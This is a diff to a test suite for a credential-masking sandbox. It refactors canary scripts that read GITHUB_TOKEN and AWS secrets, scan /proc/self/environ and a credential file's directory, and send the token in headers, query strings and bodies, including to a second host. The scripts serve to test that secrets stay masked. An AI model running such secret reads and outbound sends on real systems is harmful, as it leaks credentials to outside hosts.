@@ -464,7 +464,19 @@ def test_the_call_result_and_the_audit_say_what_was_refused(
     assert records[-1]["network_refused"] == [f"git.test:{refused.port}: not in the allow list (narrowed list)"]
 
 
-CANARY = r"""
+# The masked token sent four ways by a script in the sandbox: in its declared header to its host (echoed,
+# and reflected back), elsewhere in the request, and to another host.
+_SENT_FOUR_WAYS = """def fetch(url, headers, body=None):
+    request = urllib.request.Request(url, headers=headers, data=body)
+    return urllib.request.urlopen(request, timeout=20, context=context).read().decode()
+print("declared", fetch(f"{api}/echo", {"Authorization": f"Bearer {token}"}))
+print("reflected", fetch(f"{api}/reflect", {"Authorization": f"Bearer {token}"}))
+print("elsewhere", fetch(f"{api}/echo?t={token}", {"X-Other": token}, token.encode()))
+print("other host", fetch(f"{echo}/echo", {"Authorization": f"Bearer {token}"}))
+"""
+
+CANARY = (
+    r"""
 import os, ssl, sys, urllib.request
 token = os.environ["GITHUB_TOKEN"]
 context = ssl.create_default_context()  # SSL_CERT_FILE: toolrt's bundle, with the proxy's authority
@@ -473,14 +485,9 @@ print("placeholder", token)
 print("other", os.environ.get("AWS_SECRET_ACCESS_KEY"))
 print("environ", open("/proc/self/environ", "rb").read().count(token.encode()))
 api, echo = sys.argv[1], sys.argv[2]
-def fetch(url, headers, body=None):
-    request = urllib.request.Request(url, headers=headers, data=body)
-    return urllib.request.urlopen(request, timeout=20, context=context).read().decode()
-print("declared", fetch(f"{api}/echo", {"Authorization": f"Bearer {token}"}))
-print("reflected", fetch(f"{api}/reflect", {"Authorization": f"Bearer {token}"}))
-print("elsewhere", fetch(f"{api}/echo?t={token}", {"X-Other": token}, token.encode()))
-print("other host", fetch(f"{echo}/echo", {"Authorization": f"Bearer {token}"}))
 """
+    + _SENT_FOUR_WAYS
+)
 
 
 @pytest.mark.parametrize("launch", LAUNCHES)
@@ -561,7 +568,8 @@ def test_a_denied_credential_file_reads_as_empty_inside(tmp_path: Path, launch: 
     assert secret.read_text() == "aws_secret_access_key = canary\n"
 
 
-FILE_CANARY = r"""
+FILE_CANARY = (
+    r"""
 import os, ssl, subprocess, sys, urllib.request
 path, api, echo = sys.argv[1], sys.argv[2], sys.argv[3]
 directory = os.path.dirname(path)
@@ -581,14 +589,9 @@ print("directory", run("grep", "-r", "", directory), sorted(os.listdir(directory
 print("umount", run("umount", path), run("cat", path))
 context = ssl.create_default_context()  # SSL_CERT_FILE: toolrt's bundle, with the proxy's authority
 context.load_verify_locations(sys.argv[4])
-def fetch(url, headers, body=None):
-    request = urllib.request.Request(url, headers=headers, data=body)
-    return urllib.request.urlopen(request, timeout=20, context=context).read().decode()
-print("declared", fetch(f"{api}/echo", {"Authorization": f"Bearer {token}"}))
-print("reflected", fetch(f"{api}/reflect", {"Authorization": f"Bearer {token}"}))
-print("elsewhere", fetch(f"{api}/echo?t={token}", {"X-Other": token}, token.encode()))
-print("other host", fetch(f"{echo}/echo", {"Authorization": f"Bearer {token}"}))
 """
+    + _SENT_FOUR_WAYS
+)
 
 
 @pytest.mark.parametrize("launch", LAUNCHES)
